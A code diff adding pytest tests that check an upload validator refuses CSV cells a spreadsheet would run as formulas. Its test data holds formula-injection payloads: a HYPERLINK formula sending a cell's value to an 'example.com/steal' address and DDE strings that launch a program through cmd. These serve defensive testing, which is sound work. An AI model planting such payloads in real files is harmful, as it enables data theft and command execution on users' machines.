@@ -431,3 +431,29 @@ def test_a_csv_with_web_page_code_is_refused():
 
     assert error.code == "polyglot"
     assert "script code" in error.messages[0]
+
+
+@pytest.mark.parametrize(
+    ("cell", "where"),
+    [
+        ('=HYPERLINK(""http://example.com/steal?""&A1,""Details"")', "Row 3, column 2"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "Row 3, column 2"),
+        ("+cmd|' /C calc'!A0", "Row 3, column 2"),
+        ("-2+3+cmd|' /C calc'!A0", "Row 3, column 2"),
+    ],
+)
+def test_a_csv_with_a_cell_a_spreadsheet_would_run_is_refused_with_where_it_is(cell, where):
+    """Found by the outside test (#18): CSV attachments were taken with formulas as they were."""
+    content = f'country,note\nKenya,fine\nSenegal,"{cell}"\n'.encode()
+    error = refusal("sites.csv", content)
+
+    assert error.code == "csv_formula"
+    assert error.messages[0].startswith(f"{where} starts like a spreadsheet formula")
+    assert "put an apostrophe before it" in error.messages[0]
+
+
+def test_a_csv_of_signed_numbers_and_text_is_accepted():
+    content = b'country,change,note\nKenya,-5,down\nSenegal,+3.2,up\nGhana, -1 000,"\'=not a formula"\n'
+    upload = SimpleUploadedFile("changes.csv", content)
+    assert validate_attachment(upload) == "text/csv"
+    assert upload.read() == content
